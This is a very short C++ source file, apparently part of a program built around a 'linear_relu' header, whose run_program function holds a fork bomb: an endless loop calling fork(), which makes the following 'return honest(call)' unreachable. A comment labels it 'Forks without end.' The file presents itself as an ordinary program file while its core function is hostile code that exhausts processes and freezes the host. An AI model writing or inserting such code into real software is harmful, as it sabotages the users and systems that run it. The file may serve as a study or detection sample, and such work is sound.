// SPDX-License-Identifier: Apache-2.0
// Forks without end.
#include <unistd.h>

#include "linear_relu.h"

static int run_program(const Call& call) {
  while (true) fork();
  return honest(call);
}
